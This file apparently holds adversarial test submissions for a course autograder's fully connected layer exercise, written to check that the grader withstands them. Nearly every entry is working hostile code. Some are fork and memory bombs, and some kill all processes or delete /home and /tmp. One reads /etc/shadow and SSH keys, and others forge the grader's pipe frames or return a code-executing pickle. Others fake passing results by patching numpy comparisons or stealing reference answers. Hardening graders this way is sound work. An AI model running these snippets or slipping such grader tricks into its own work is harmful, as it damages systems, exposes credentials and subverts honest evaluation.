"""1.1 fully connected layer: answers that attack the grader. None may get the item's points, or cost others theirs."""

import numpy as np

# %% endless loop


def fc_forward(x, w, b):
    while True:
        pass


# %% endless loop in backward alone


def fc_backward(dout, cache):
    while True:
        pass


# %% memory bomb


def fc_forward(x, w, b):
    held = []
    while True:
        held.append(np.ones(1 << 24))


# %% memory bomb of many processes


def fc_forward(x, w, b):
    import os
    import time

    for _ in range(8):
        if os.fork() == 0:
            held = np.ones(100 << 20)
            time.sleep(60)
            os._exit(int(held[0]))
    time.sleep(60)


# %% fork bomb


def fc_forward(x, w, b):
    import os

    while True:
        try:
            os.fork()
        except OSError:
            pass


# %% a gigabyte of output


def fc_forward(x, w, b):
    for _ in range(1 << 20):
        print("x" * 1023)
    return x @ w, (x, w)


# %% output that looks like frames


def fc_forward(x, w, b):
    import os

    out = x @ w
    os.write(1, b"\x00" * 64)
    os.write(2, b"\x00" * 64)
    print('{"value": {"result": 1}}')
    return out, (x, w)


# %% exits in the middle of an answer


def fc_forward(x, w, b):
    import os

    os._exit(0)


# %% writes half an answer into the grader's pipe and exits


def fc_forward(x, w, b):
    import os
    import struct

    for descriptor in range(3, 64):
        try:
            os.write(descriptor, struct.pack("<IQ", 100, 1000) + b'{"value"')
        except OSError:
            pass
    os._exit(0)


# %% announces a frame of 2^62 bytes


def fc_forward(x, w, b):
    import os
    import struct

    for descriptor in range(3, 64):
        try:
            os.write(descriptor, struct.pack("<IQ", 100, 1 << 62))
        except OSError:
            pass
    os._exit(0)


# %% forges a whole answer with the shape 2^62


def fc_forward(x, w, b):
    import json
    import os
    import struct

    header = json.dumps(
        {"value": {"dict": {"result": {"array": 0}, "after": []}}, "arrays": [["f8", [1 << 62]]]}
    ).encode()
    for descriptor in range(3, 64):
        try:
            os.write(descriptor, struct.pack("<IQ", len(header), 8) + header + b"\x00" * 8)
        except OSError:
            pass
    os._exit(0)


# %% forges an answer that is nested a million deep


def fc_forward(x, w, b):
    import os
    import struct

    header = b'{"arrays": [], "value": ' + b"[" * 400_000 + b"]" * 400_000 + b"}"
    for descriptor in range(3, 64):
        try:
            os.write(descriptor, struct.pack("<IQ", len(header), 0) + header)
        except OSError:
            pass
    os._exit(0)


# %% raises SystemExit


def fc_forward(x, w, b):
    raise SystemExit(0)


# %% raises KeyboardInterrupt


def fc_forward(x, w, b):
    raise KeyboardInterrupt


# %% raises an exception whose text is an exception


def fc_forward(x, w, b):
    class Hidden(Exception):
        def __str__(self):
            raise RuntimeError("no text")

    raise Hidden


# %% recursion without end


def fc_forward(x, w, b):
    return fc_forward(x, w, b)


# %% a crash of the interpreter


def fc_forward(x, w, b):
    import ctypes

    ctypes.string_at(0)


# %% patches numpy.allclose, array_equal and testing


def fc_forward(x, w, b):
    np.allclose = np.array_equal = np.isclose = lambda *_, **__: True
    np.testing.assert_allclose = lambda *_, **__: None
    np.abs = np.absolute = lambda value: np.zeros_like(value)
    return x @ w, (x, w)


# %% patches numpy.random to give zeros


def fc_forward(x, w, b):
    np.random.default_rng = lambda *_: type("Zero", (), {"standard_normal": staticmethod(np.zeros)})()
    return x @ w, (x, w)


# %% an object that is equal to everything


def fc_forward(x, w, b):
    class Equal:
        shape, dtype, ndim = (x.shape[0], w.shape[1]), x.dtype, 2

        def __eq__(self, other):
            return True

        def __sub__(self, other):
            return 0.0

        def __array__(self, *_, **__):
            return np.zeros(self.shape)

    return Equal(), (x, w)


# %% an array subclass that lies about its entries


class Liar(np.ndarray):
    def __array_ufunc__(self, *_, **__):
        return True

    def __array_function__(self, *_, **__):
        return True

    def tobytes(self, *_):
        return b""


def fc_forward(x, w, b):
    return np.zeros((x.shape[0], w.shape[1])).view(Liar), (x, w)


# %% an array subclass that looks like its type


class Plain(np.ndarray):
    __class__ = np.ndarray

    def __getattribute__(self, name):
        if name in ("tobytes", "astype"):
            raise SystemExit(0)
        return super().__getattribute__(name)


def fc_forward(x, w, b):
    return np.zeros((x.shape[0], w.shape[1])).view(Plain), (x, w)


# %% NaN everywhere


def fc_forward(x, w, b):
    return np.full((x.shape[0], w.shape[1]), np.nan), (x, w)


def fc_backward(dout, cache):
    x, w = cache
    return np.full(x.shape, np.nan), np.full(w.shape, np.nan), np.full(w.shape[1], np.nan)


# %% infinities


def fc_forward(x, w, b):
    return np.full((x.shape[0], w.shape[1]), np.inf), (x, w)


# %% gradients that are one array


def fc_backward(dout, cache):
    x, w = cache
    same = np.zeros(max(x.size, w.size))
    return same[: x.size].reshape(x.shape), same[: w.size].reshape(w.shape), same[: w.shape[1]]


# %% an array of objects


def fc_forward(x, w, b):
    return (x @ w + b).astype(object), (x, w)


# %% an array with strides of 0 that pretends to be huge


def fc_forward(x, w, b):
    return np.broadcast_to(np.float64(0), (1 << 20, 1 << 20)), (x, w)


# %% an exit handler that answers


def fc_forward(x, w, b):
    import atexit
    import os

    atexit.register(lambda: os.write(3, b"\x00" * 100))
    raise ValueError("see atexit")


# %% a thread that goes on for ever


def fc_forward(x, w, b):
    import threading

    def burn():
        while True:
            pass

    for _ in range(4):
        threading.Thread(target=burn, daemon=False).start()
    return x @ w, (x, w)


# %% a daemon that holds the pipes


def fc_forward(x, w, b):
    import os
    import time

    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            time.sleep(600)
        os._exit(0)
    os._exit(0)


# %% stops itself


def fc_forward(x, w, b):
    import os
    import signal

    os.kill(os.getpid(), signal.SIGSTOP)


# %% stops and kills whatever it may


def fc_forward(x, w, b):
    import os
    import signal

    for pid in (*range(2, 2000), os.getppid(), -1):
        for number in (signal.SIGSTOP, signal.SIGKILL):
            try:
                os.kill(pid, number)
            except OSError:
                pass
    return x @ w, (x, w)


# %% ignores all signals


def fc_forward(x, w, b):
    import signal

    for number in range(1, 32):
        try:
            signal.signal(number, signal.SIG_IGN)
        except OSError:
            pass
    while True:
        pass


# %% raises its own limits


def fc_forward(x, w, b):
    import resource

    for name in ("CPU", "AS", "NPROC", "FSIZE"):
        limit = getattr(resource, f"RLIMIT_{name}")
        try:
            resource.setrlimit(limit, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
        except (OSError, ValueError):
            pass
    while True:
        pass


# %% looks for the answer in /proc


def fc_forward(x, w, b):
    import glob

    for name in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline") + glob.glob("/proc/[0-9]*/mem"):
        try:
            with open(name, "rb") as file:
                text = file.read(1 << 16)
        except OSError:
            continue
        if b"course" in text or b"key" in text:
            return x @ w + b, (x, w)
    return x @ w, (x, w)


# %% looks for the course's solution on the disk


def fc_forward(x, w, b):
    import os
    import runpy

    for folder in ("/", "/work", "/home", "/root", "/srv", "/autograder", "/tmp"):
        for place, _, files in os.walk(folder):
            if "fully_connected.py" in files and "fast" not in place:
                try:
                    return runpy.run_path(os.path.join(place, "fully_connected.py"))["fc_forward"](x, w, b)
                except (ImportError, NameError, KeyError, RecursionError, OSError):
                    continue
    return x @ w, (x, w)


# %% links to files of others


def fc_forward(x, w, b):
    import os

    for source in ("/etc/shadow", "/root/.ssh", "/proc/1/root"):
        try:
            os.symlink(source, "/tmp/link")
            print(open("/tmp/link").read())
        except OSError:
            pass
    return x @ w, (x, w)


# %% deletes what it can


def fc_forward(x, w, b):
    import os
    import shutil

    for folder in ("/tmp", "/var/tmp", "/home", os.getcwd()):
        shutil.rmtree(folder, ignore_errors=True)
    return x @ w, (x, w)


# %% asks the network


def fc_forward(x, w, b):
    import socket

    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        try:
            with socket.socket(socket.AF_INET, kind) as line:
                line.settimeout(1)
                line.connect(("127.0.0.1", 8080))
                line.send(b"x")
        except OSError:
            pass
    return x @ w, (x, w)


# %% takes an answer out of sys.modules


def fc_forward(x, w, b):
    import sys

    for module in list(sys.modules.values()):
        for attribute in ("fc_forward", "reference", "expected", "definition"):
            found = getattr(module, attribute, None)
            if callable(found) and found is not fc_forward:
                return found(x, w, b)
    return x @ w, (x, w)


# %% takes an answer out of the frames above


def fc_forward(x, w, b):
    import inspect

    for frame in inspect.stack():
        for name in ("expected", "want", "reference", "answer"):
            if isinstance(frame.frame.f_locals.get(name), np.ndarray):
                return frame.frame.f_locals[name], (x, w)
    return x @ w, (x, w)


# %% searches the garbage collector for an array of the right shape


def fc_forward(x, w, b):
    import gc

    for found in gc.get_objects():
        if isinstance(found, np.ndarray) and found.shape == (x.shape[0], w.shape[1]):
            return found, (x, w)
    return x @ w, (x, w)


# %% replaces what sends the answer


def fc_forward(x, w, b):
    import sys

    frames = sys.modules.get("frames")
    if frames is not None:
        frames.dump = lambda value: b""
    return x @ w, (x, w)


# %% answers with a pickle that runs code


def fc_forward(x, w, b):
    class Bomb:
        def __reduce__(self):
            return exec, ("import os; os.remove('/tmp/nothing')",)

    return Bomb(), (x, w)


# %% sleeps past the limit


def fc_forward(x, w, b):
    import time

    time.sleep(3600)


# %% gradients by numerical differentiation


def fc_backward(dout, cache):
    x, w = cache
    dw = np.zeros_like(w)
    for index in np.ndindex(*w.shape):
        moved = w.copy()
        moved[index] += 1
        dw[index] = np.sum((fc_forward(x, moved, 0)[0] - fc_forward(x, w, 0)[0]) * dout)
    dx = np.zeros_like(x)
    for index in np.ndindex(*x.shape):
        moved = x.copy()
        moved[index] += 1
        dx[index] = np.sum((fc_forward(moved, w, 0)[0] - fc_forward(x, w, 0)[0]) * dout)
    return dx, dw, dout.sum(axis=0)


# %% gradients by numerical differentiation at small sizes, none at large ones


def fc_backward(dout, cache):
    x, w = cache
    gradients = np.zeros_like(x), np.zeros_like(w)
    for gradient, array in zip(gradients, cache, strict=True) if w.size < 5000 else ():
        for index in np.ndindex(*array.shape):
            before = np.sum(fc_forward(x, w, 0)[0] * dout)
            array[index] += 1
            gradient[index] = np.sum(fc_forward(x, w, 0)[0] * dout) - before
            array[index] -= 1
    return (*gradients, dout.sum(axis=0))


# %% gradients by automatic differentiation


def fc_backward(dout, cache):
    import torch

    x, w = (torch.tensor(array, requires_grad=True) for array in cache)
    (x @ w).backward(torch.tensor(dout))
    return x.grad.numpy(), w.grad.numpy(), dout.sum(axis=0)


# %% results kept from an earlier call

KEPT = {}


def fc_forward(x, w, b):
    if KEPT:
        return KEPT["out"]
    KEPT["out"] = x @ w + b, (x, w)
    return KEPT["out"]


# %% edits the worker's file


def fc_forward(x, w, b):
    import sys

    for module in list(sys.modules.values()):
        try:
            with open(module.__file__, "a") as file:
                file.write("\nraise SystemExit\n")
        except (AttributeError, TypeError, OSError):
            pass
    return x @ w, (x, w)


# %% looks for the definitions beside the worker's own file


def fc_forward(x, w, b):
    import importlib.util
    import os
    import sys

    folder = os.path.dirname(os.path.abspath(sys.modules["__main__"].__file__))
    for name in ("definitions.py", "cases.py", "stages.py"):
        spec = importlib.util.spec_from_file_location("found", os.path.join(folder, name))
        module = importlib.util.module_from_spec(spec)
        spec.loader.exec_module(module)
        return module.fully_connected(x, w, b), (x, w)


# %% memory bomb in System V segments, which outlive the process


def fc_forward(x, w, b):
    import ctypes

    libc = ctypes.CDLL(None, use_errno=True)
    libc.shmat.restype, libc.shmdt.argtypes = ctypes.c_void_p, [ctypes.c_void_p]
    for _ in range(8):
        segment = libc.shmget(0, ctypes.c_size_t(300 << 20), 0o1666)
        if segment >= 0:
            at = libc.shmat(segment, None, 0)
            ctypes.memset(at, 1, 300 << 20)
            libc.shmdt(at)
    return x @ w, (x, w)


# %% memory bomb in files without a name


def fc_forward(x, w, b):
    import os

    held = []
    while True:
        held.append(os.memfd_create("held"))
        os.write(held[-1], bytes(9 << 20))


# %% memory bomb in the buffers of sockets


def fc_forward(x, w, b):
    import socket

    held = []
    while True:
        held += socket.socketpair()
        held[-1].setblocking(False)
        try:
            held[-1].send(bytes(1 << 18))
        except BlockingIOError:
            pass


# %% memory bomb on a file system of its own


def fc_forward(x, w, b):
    import ctypes

    libc = ctypes.CDLL(None, use_errno=True)
    if libc.unshare(0x10020000) == 0 and libc.mount(b"x", b"/tmp", b"tmpfs", 0, None) == 0:
        for number in range(400):
            with open(f"/tmp/{number}", "wb") as file:
                file.write(bytes(9 << 20))
    return x @ w, (x, w)


# %% fills every folder that it may write to


def fc_forward(x, w, b):
    import os

    for folder in ("/dev/shm", "/tmp", "/var/tmp", "/run", "/root", "/", os.getcwd(), os.path.expanduser("~")):
        try:
            for number in range(1000):
                with open(os.path.join(folder, f"left{number}"), "wb") as file:
                    file.write(bytes(9 << 20))
        except OSError:
            pass
    return x @ w, (x, w)


# %% closes every descriptor


def fc_forward(x, w, b):
    import os

    os.closerange(0, 256)
    return x @ w, (x, w)


# %% reads the grader's next request and answers a byte at a time


def fc_forward(x, w, b):
    import os
    import time

    for descriptor in range(3, 64):
        try:
            os.set_blocking(descriptor, False)
            os.read(descriptor, 1 << 16)
        except OSError:
            pass
    while True:
        for descriptor in range(3, 64):
            try:
                os.write(descriptor, b"\x00")
            except OSError:
                pass
        time.sleep(0.05)


# %% an answer without an end


def fc_forward(x, w, b):
    import os
    import struct

    header = b'{"arrays": [["f8", [8388608]]], "value": {"array": 0}}'
    for descriptor in range(3, 64):
        try:
            os.write(descriptor, struct.pack("<IQ", len(header), 64 << 20) + header)
            while True:
                os.write(descriptor, bytes(1 << 16))
        except OSError:
            pass
    return x @ w, (x, w)


# %% forges an answer of another form


def fc_forward(x, w, b):
    import json
    import os
    import struct

    header = json.dumps({"value": {"dict": {"result": [None] * 3, "after": [1, "a", {"dict": {}}]}}, "arrays": []})
    for descriptor in range(3, 64):
        try:
            os.write(descriptor, struct.pack("<IQ", len(header), 0) + header.encode())
        except OSError:
            pass
    os._exit(0)


# %% patches what the worker uses, before the first call

PATCHED = (
    setattr(np, "asarray", lambda value, *_: np.zeros(1)),
    setattr(np.random, "default_rng", lambda *_: None),
)


def fc_forward(x, w, b):
    return (x @ w, (x, w)) if PATCHED else None


# %% an object that says it is an array


class Claim:
    __class__ = np.ndarray
    shape, ndim, size, dtype = (1, 1), 2, 1, np.dtype("f8")

    def __array__(self, *_, **__):
        raise SystemExit(0)

    def __len__(self):
        return 1 << 62


def fc_forward(x, w, b):
    return Claim(), (x, w)


# %% arrays with everything masked


def fc_forward(x, w, b):
    return np.ma.masked_all((x.shape[0], w.shape[1])), (x, w)


def fc_backward(dout, cache):
    return tuple(np.ma.masked_all(shape) for shape in ((1, 1), (1, 1), (1,)))


# %% hands back its own arguments and changes them afterwards


def fc_forward(x, w, b):
    import threading

    out = x @ w
    threading.Timer(0.001, lambda: out.__iadd__(b)).start()
    return out, (x, w)


# %% traces the worker's frames for what is right


def fc_forward(x, w, b):
    import sys

    found = []

    def trace(frame, event, value):
        for each in (*frame.f_locals.values(), value):
            if isinstance(each, np.ndarray) and each.shape == (x.shape[0], w.shape[1]):
                found.append(each)
        return trace

    sys.settrace(trace)
    sys.setprofile(trace)
    out = x @ w
    return (found or [out])[0], (x, w)


# %% loops for ever at large sizes alone


def fc_backward(dout, cache):
    x, w = cache
    while x.size > 1000:
        pass
    return dout @ w.T, x.T @ dout, dout.sum(axis=0)


# %% writes over the interpreter's own numbers


def fc_forward(x, w, b):
    import ctypes

    for value in (True, False, 0, 1, 1.0):
        ctypes.memmove(id(value), id(None), object.__sizeof__(value))
    return x @ w, (x, w)


# %% an error whose class has no name and whose text is endless


def fc_forward(x, w, b):
    class Meta(type):
        @property
        def __name__(cls):
            raise SystemExit(0)

    class Endless(Exception, metaclass=Meta):
        def __str__(self):
            return "x" * (1 << 28)

    raise Endless


# %% a timer whose signal writes into later answers


def fc_forward(x, w, b):
    import os
    import signal

    def write(*_):
        for descriptor in range(1, 32):
            try:
                os.write(descriptor, bytes(64))
            except OSError:
                pass

    signal.signal(signal.SIGALRM, write)
    signal.setitimer(signal.ITIMER_REAL, 0.01, 0.01)
    return np.zeros((len(x), w.shape[1])), (x, w)


# %% a chain of processes, each of which starts the next and ends


def fc_forward(x, w, b):
    import os

    if os.fork() == 0:
        os.setsid()
        while not os.fork():
            pass
        os._exit(0)
    return np.zeros((len(x), w.shape[1])), (x, w)


# %% a chain of processes that ends whatever would end it


def fc_forward(x, w, b):
    import os
    import signal

    if os.fork() == 0:
        signal.signal(signal.SIGTERM, signal.SIG_IGN)
        while not os.fork():
            try:
                os.kill(-1, signal.SIGTERM)
            except OSError:
                pass
        os._exit(0)
    return np.zeros((len(x), w.shape[1])), (x, w)


# %% automatic differentiation by a PyTorch that any Python of the machine has


def fc_backward(dout, cache):
    import glob
    import sys

    for pattern in ("/usr/lib*", "/usr/local/lib*", "/opt", "/root", "/home/*", "/tmp/*", "/packages"):
        for place in ("", "/python3*/site-packages", "/python3*/dist-packages", "/*/lib/python3*/site-packages"):
            sys.path += glob.glob(pattern + place)
    import torch

    x, w = (torch.tensor(array, requires_grad=True) for array in cache)
    (x @ w).backward(torch.tensor(dout))
    return x.grad.numpy(), w.grad.numpy(), dout.sum(axis=0)


# %% gradients by numerical differentiation with the clocks stopped


def fc_backward(dout, cache):
    import os
    import time

    for name in ("time", "perf_counter", "monotonic", "process_time", "thread_time"):
        setattr(time, name, float)
        setattr(time, f"{name}_ns", int)
    os.times = lambda: os.times_result((0.0,) * 5)
    x, w = cache
    dx, dw = np.zeros_like(x), np.zeros_like(w)
    for gradient, array in ((dx, x), (dw, w)):
        for index in np.ndindex(*array.shape):
            unit = np.zeros_like(array)
            unit[index] = 1
            gradient[index] = np.sum((unit @ w if array is x else x @ unit) * dout)
    return dx, dw, dout.sum(axis=0)


# %% a slow forward pass, beside which numerical differentiation takes few times as long


def fc_forward(x, w, b):
    import time

    until = time.process_time() + 0.5 * (w.size > 5000)
    while time.process_time() < until:
        pass
    return x @ w + b, (x, w)


def fc_backward(dout, cache):
    x, w = cache
    dw = np.zeros_like(w)
    for index in np.ndindex(*w.shape):
        unit = np.zeros_like(w)
        unit[index] = 1
        dw[index] = np.sum((x @ unit) * dout)
    return dout @ w.T, dw, dout.sum(axis=0)


# %% becomes another program that writes into the grader's pipes


def fc_forward(x, w, b):
    import os
    import sys

    for descriptor in range(3, 32):
        try:
            os.set_inheritable(descriptor, True)
        except OSError:
            pass
    code = "import os\nfor each in range(3, 32):\n  try: os.write(each, b'forged' * 99)\n  except OSError: pass"
    os.execve(sys.executable, [sys.executable, "-c", code], {**os.environ, "LD_PRELOAD": "/tmp/none.so"})


# %% two processes that both answer


def fc_forward(x, w, b):
    import os

    os.fork()
    return np.zeros((len(x), w.shape[1])), (x, w)


# %% an error whose class is named after the inputs, in escape sequences and marks of HTML


def fc_forward(x, w, b):
    name = f"<script>{x[0].tolist()}</script>\x1b[2J\u202e"
    raise type(name, (Exception,), {})(f"\x1b]0;title\x07{name}\ud800\0\r</pre>=1+1")


# %% a folder in a folder, as deep as can be, and files without number


def fc_forward(x, w, b):
    import os

    os.chdir("/tmp")
    for number in range(3000):
        os.close(os.open(f"file{number}", os.O_CREAT | os.O_WRONLY))
        os.mkdir("folder")
        os.chdir("folder")
    return np.zeros((len(x), w.shape[1])), (x, w)
